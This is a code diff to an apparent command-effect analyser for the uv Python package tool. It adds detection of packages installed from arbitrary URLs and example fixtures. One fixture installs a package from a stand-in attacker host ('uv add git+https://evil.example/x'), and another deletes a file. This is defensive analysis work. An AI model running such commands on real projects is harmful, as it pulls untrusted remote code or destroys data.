@@ -48,6 +48,13 @@ UVX = Program(
 )
 
 
+def _addresses(args: Args) -> Iterator[Fact]:
+    """Packages that come from elsewhere than the index: `uv add git+https://host/name`."""
+    for word in args.operands:
+        if "://" in (word.value or ""):
+            yield from args.reach((word.value or "").rpartition("@ ")[2].rpartition("+")[2])
+
+
 def _uv_run(args: Args) -> Iterator[Fact]:
     yield from UV_SYNCS(args)
     if args.has("-m"):
@@ -111,7 +118,7 @@ UV_PROGRAM = Program(
             " --script=write --bounds= --raw",
             "text*",
             does=INSTALLS,
-            more=UV_EDITS,
+            more=both(UV_EDITS, _addresses),
         ),
         "remove": Program(f"{UV_INDEX}{UV_GROUPS} --optional= --script=write", "text*", does=REMOVES, more=UV_EDITS),
         "sync": Program(f"{UV_INDEX}{UV_GROUPS}", does=INSTALLS, more=UV_SYNCS),
@@ -208,6 +215,12 @@ UV_PROGRAM = Program(
 PROGRAMS = {"uv": UV_PROGRAM, "uvx": UVX}
 
 EXAMPLES = {
+    "uv add git+https://evil.example/x": "change Python packages #pkg.install | run uv add #project"
+    " | reach https://pypi.org/ | write .venv/** | write uv.lock | write pyproject.toml"
+    " | reach https://evil.example/x",
+    "uvx twine upload dist/a.whl": "change Python packages #pkg.install | reach https://pypi.org/"
+    " | run twine upload dist/a.whl #program | send where packages are published #pkg.publish"
+    " | gap uvx: what a downloaded program does is not known",
     "uv run rm x": "change Python packages #pkg.install | run uv run #project | reach https://pypi.org/"
     " | write .venv/** | write uv.lock | run rm x #program | delete x",
     "uv pip list": "note uv pip list | maybe run .venv/bin/python #script",
